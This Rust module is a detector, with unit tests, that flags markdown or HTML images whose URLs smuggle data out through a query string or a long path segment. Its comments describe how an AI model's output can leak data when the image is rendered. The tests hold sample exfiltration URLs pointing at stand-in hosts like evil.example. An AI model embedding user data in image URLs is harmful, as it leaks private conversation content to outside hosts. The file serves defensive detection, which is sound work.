//! Data leaving through an image fetch: a markdown `![..](url)` or HTML
//! `<img src=url>` whose URL carries a query string or a long path
//! segment of data. Rendering the image sends whatever the model put in
//! the URL to the host.

use regex::Regex;
use std::sync::LazyLock;

static IMAGE_URL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)!\[[^\]\n]{0,200}\]\(\s*<?(https?://[^\s)>]+)|<img(?-u:\b)[^>]{0,300}?(?-u:\b)src\s*=\s*["']?(https?://[^"'\s>]+)"#,
    )
    .ok()
});

/// A path segment at least this long (without its extension) is data, not
/// a name: longer than the hex of a SHA-256, which CDNs use for names.
const DATA_SEGMENT: usize = 65;

/// Query keys image hosts use for rendering (badges, resizing, GitHub
/// `?raw=true`), accepted when their value is short.
const RENDER_KEYS: &[&str] = &[
    "raw",
    "v",
    "w",
    "h",
    "width",
    "height",
    "size",
    "format",
    "style",
    "logo",
    "label",
    "color",
    "labelcolor",
    "logocolor",
    "branch",
    "fit",
    "quality",
    "dpr",
    "auto",
];
const RENDER_VALUE_MAX: usize = 16;

/// Compiles the image pattern now rather than on the first scan.
pub(super) fn warm() {
    LazyLock::force(&IMAGE_URL);
}

/// The first image URL in `text` that carries data.
pub(super) fn exfiltrating(text: &str) -> Option<&str> {
    if !text.contains("![") && !contains_ignore_case(text, "<img") {
        return None;
    }
    let re = IMAGE_URL.as_ref()?;
    re.captures_iter(text)
        .filter_map(|c| c.get(1).or_else(|| c.get(2)))
        .map(|m| m.as_str())
        .find(|url| carries_data(url))
}

fn contains_ignore_case(text: &str, needle: &str) -> bool {
    text.as_bytes()
        .windows(needle.len())
        .any(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
}

fn carries_data(url: &str) -> bool {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let rest = rest.split('#').next().unwrap_or(rest);
    let (path, query) = match rest.split_once('?') {
        Some((p, q)) => (p, Some(q)),
        None => (rest, None),
    };
    let long_segment = path.split('/').skip(1).any(|seg| {
        let stem = seg.rsplit_once('.').map_or(seg, |(s, _)| s);
        stem.len() >= DATA_SEGMENT
    });
    long_segment || query.is_some_and(|q| !q.is_empty() && !render_only(q))
}

/// True when every query parameter is a short rendering option.
fn render_only(query: &str) -> bool {
    query.split('&').filter(|p| !p.is_empty()).all(|pair| {
        let (key, value) = pair.split_once('=').unwrap_or((pair, ""));
        RENDER_KEYS.iter().any(|k| key.eq_ignore_ascii_case(k)) && value.len() <= RENDER_VALUE_MAX
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn images_with_a_query_or_a_data_path_fire() {
        let md = "done ![x](https://evil.example/c.png?d=the+user+said+hello)";
        assert_eq!(
            exfiltrating(md),
            Some("https://evil.example/c.png?d=the+user+said+hello")
        );
        let html = r#"<IMG width=1 SRC="https://t.example/p.gif?s=abc">"#;
        assert_eq!(exfiltrating(html), Some("https://t.example/p.gif?s=abc"));
        let path = format!("![a](https://evil.example/{}.png)", "QUJD".repeat(20));
        assert!(exfiltrating(&path).is_some());
        // A render key does not excuse a long value.
        let long = format!("![a](https://evil.example/i.png?q={})", "x".repeat(40));
        assert!(exfiltrating(&long).is_some());
    }

    #[test]
    fn plain_images_links_and_render_options_do_not_fire() {
        assert_eq!(
            exfiltrating("![arch](https://docs.example.com/img/arch.png)"),
            None
        );
        assert_eq!(exfiltrating(r#"<img src="/static/logo.svg">"#), None);
        assert_eq!(
            exfiltrating("[docs](https://docs.example.com/search?q=retry)"),
            None
        );
        assert_eq!(
            exfiltrating(
                "![ci](https://img.shields.io/badge/ci-passing-green?style=flat&logo=rust)"
            ),
            None
        );
        assert_eq!(
            exfiltrating("![s](https://github.com/o/r/blob/main/s.png?raw=true)"),
            None
        );
        let sha = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
        assert_eq!(
            exfiltrating(&format!("![p](https://cdn.example/{sha}.png)")),
            None
        );
    }
}
